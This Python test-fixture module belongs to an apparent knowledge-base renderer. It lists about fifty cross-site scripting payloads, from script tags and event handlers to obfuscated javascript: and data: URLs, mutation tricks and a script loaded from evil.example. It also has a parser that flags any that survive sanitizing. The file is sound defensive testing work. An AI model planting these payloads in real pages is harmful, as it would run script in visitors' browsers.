"""Article Markdown that tries to put live script on the page, and the check that none does.

Shared by the rendering test, the page test and the browser test (which loads every payload
in one article and fails on any dialog). Each payload calls alert(), so a browser that runs
one shows a dialog.
"""

import html
import re
from html.parser import HTMLParser

from chamado.kb.render import ATTRIBUTES, TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/kb/x.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="javascript:alert(1)">plain</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
    '<a href="java&#x09;script:alert(1)">tab inside</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    "[markdown link](javascript:alert(1))",
    "[upper case](JAVASCRIPT:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[colon entity](javascript&colon;alert(1))",
    "[angle brackets](<javascript:alert(1)>)",
    "[reference][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![image](javascript:alert(1))",
    "![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">data html</a>',
    "[vbscript](vbscript:msgbox(1))",
    '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
    '<button formaction="javascript:alert(1)">button</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>details</details>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="#" onclick="alert(1)">handler</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<h2 id="main" onmouseover="alert(1)">Heading over the page</h2>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<video><source onerror="alert(1)"></video>',
    '<img src="//evil.example/track.png" alt="tracker">',
    '<img srcset="javascript:alert(1)" alt="srcset">',
    "<textarea><script>alert(1)</script></textarea>",
    '<a xlink:href="javascript:alert(1)">xlink</a>',
    "<div onpointerenter=alert(1)>pointer</div>",
    "<template><script>alert(1)</script></template>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "xlink:href"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20]+")


class Finding(HTMLParser):
    """Every element and attribute of a fragment that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) and name != "rel":
                self.problems.append(f"attribute {name} on <{tag}>")
            if name.startswith("on") or name == "style":
                self.problems.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                url = _INVISIBLE.sub("", html.unescape(value))
                if _BAD_SCHEME.match(url):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
                if tag == "img" and name == "src" and (url.startswith("//") or ":" in url):
                    self.problems.append(f"external image {value!r}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)


def live_parts(fragment: str) -> list[str]:
    finding = Finding()
    finding.feed(fragment)
    finding.close()
    return finding.problems
